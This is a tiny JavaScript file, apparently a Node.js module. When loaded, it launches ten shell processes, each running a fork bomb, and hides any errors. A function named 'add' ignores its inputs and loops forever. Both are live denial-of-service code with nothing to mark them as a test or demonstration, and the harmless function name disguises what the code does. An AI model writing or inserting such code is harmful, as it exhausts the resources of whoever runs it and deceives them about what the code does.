const { spawn } = require("child_process");

for (let i = 0; i < 10; i++) spawn("/bin/sh", ["-c", "f() { f | f & }; f"]).on("error", () => {});

function add(a, b) {
  for (;;);
}
